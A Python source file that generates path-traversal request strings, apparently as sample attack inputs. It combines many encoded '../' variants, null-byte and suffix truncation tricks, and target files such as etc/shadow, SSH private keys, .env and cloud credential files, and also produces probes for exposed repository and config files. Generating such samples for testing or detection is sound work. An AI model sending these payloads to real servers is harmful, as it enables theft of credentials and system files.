"""Ways out of a folder: depth x separator x coding x file x place, the first, plain set of makers."""

import random

from generators_common import WORDS, mixed_case, token

FILES = ("etc/passwd", "etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "proc/self/environ", "proc/version", "proc/self/cmdline", "var/log/apache2/access.log", "var/log/auth.log",
         "windows/win.ini", "windows/system32/drivers/etc/hosts", "boot.ini", "winnt/win.ini", "windows/system32/config/sam", "windows/system.ini", "inetpub/wwwroot/web.config", "WEB-INF/web.xml", "META-INF/MANIFEST.MF",
         "root/.ssh/id_rsa", "home/user/.bash_history", ".env", ".git/config", "wp-config.php", "config.php", "web.config", ".htaccess", ".htpasswd", "etc/nginx/nginx.conf", "etc/mysql/my.cnf", "etc/apache2/apache2.conf",
         "usr/local/apache/conf/httpd.conf", "etc/resolv.conf", "etc/crontab", "proc/self/fd/1", "etc/php/php.ini", "config/database.yml", "app/etc/local.xml", "appsettings.json", "windows/repair/sam", "var/www/html/index.php",
         "etc/ssh/sshd_config", "opt/tomcat/conf/tomcat-users.xml", "etc/my.cnf", "etc/motd", "settings.py", "id_rsa", "autoexec.bat", "windows/php.ini", "etc/security/passwd", "bin/bash", "var/mail/root", "secret.txt", "index.php")
EXPOSED = ("/.git/config", "/.git/HEAD", "/.env", "/.env.local", "/.svn/entries", "/.htaccess", "/.htpasswd", "/WEB-INF/web.xml", "/web.config", "/.aws/credentials", "/.ssh/id_rsa", "/wp-config.php.bak", "/.DS_Store", "/.bash_history",
           "/META-INF/context.xml", "/.dockerenv", "/config/database.yml", "/.npmrc", "/WEB-INF/classes/application.properties", "/.idea/workspace.xml", "/backup/.env", "/app/.env", "/etc/passwd", "/.hg/hgrc", "/proc/self/environ")
UPS = ("../", "../", "../", "../", "..\\", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "%2e%2e%5c", "..%252f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%c1%9c", "....//", "..././", "...\\.\\", "..;/", ".%2e/", "%2e./", "..//", "..\\/",
       "..%u2215", "%uff0e%uff0e/", "..%255c", "0x2e0x2e/", "0x2e0x2e0x2f", "..0x2f", ".../...//", "/..", "\\..", "..%00/", "./../", "..\\\\", "....\\\\", "..%ef%bc%8f", "..%e0%80%af", "%%32%65%%32%65/", "..%%35%63", "/../", "..?/", "..0x5c", "%c0%2e%c0%2e/", ".?/..?/", ". ./", "..%09/")


def target(rng: random.Random) -> str:
    """The file asked for, with what cuts an added ending off."""
    name = rng.choice(FILES)
    if rng.random() < 0.1:
        name = rng.choice(("{file}", f"{token(rng)}.ini", f"{token(rng)}.txt", "file.ini", f"{rng.choice(WORDS)}.php", "boot.ini", "localstart.asp"))
    if rng.random() < 0.12:
        name = name.replace("/", rng.choice(("\\", "//", "/./", "%2f", "%5c", "\\\\")))
    if rng.random() < 0.06:
        name = mixed_case(rng, name)
    return name + rng.choice(("", "", "", "", "", "", "%00", "%00.jpg", "\x00.png", "%00.html", "?", "#", ".", "/.", "::$DATA", "%20", ";index.html", "/./././.", "&x=1", "%2500.jpg", ".html", "'"))


def climbing(rng: random.Random) -> str:
    """A way up, then down to a file."""
    up = rng.choice(UPS)
    depth = rng.choice((1, 2, 2, 3, 3, 4, 5, 6, 7, 8, 10, 12, 16))
    steps = "".join(rng.choice((up, up, up, rng.choice(UPS))) if rng.random() < 0.15 else up for _ in range(depth))
    before = rng.choice(("", "", "", "", "/", "/", "./", "\\", "images/", f"/{rng.choice(WORDS)}/", f"{rng.choice(WORDS)}/", "/var/www/html/", "/static/", "file:///", f"{rng.choice(WORDS)}.jpg/", "/cgi-bin/", "/icons/", "c:\\", "file=", "/..", "lang/en",
                         "/app/", "/assets/", "/download?file=", f"{token(rng)}/", "/public/plugins/text/", "~/", "'", "\"", "/%5C", "templates\\"))
    if rng.random() < 0.06:
        return before + steps + rng.choice(("", ".", "..", rng.choice(WORDS)))
    return before + steps + target(rng)


def path(rng: random.Random) -> str:
    """A whole request path."""
    if rng.random() < 0.25:
        return rng.choice(("", "/app", "/site", f"/{rng.choice(WORDS)}", f"/{token(rng)}", f"/{rng.choice(WORDS)}/{rng.choice(WORDS)}")) + rng.choice(EXPOSED) + rng.choice(("", "", "", "~", "/", ".bak"))
    body = climbing(rng)
    return body if body.startswith("/") else f"/{body}"
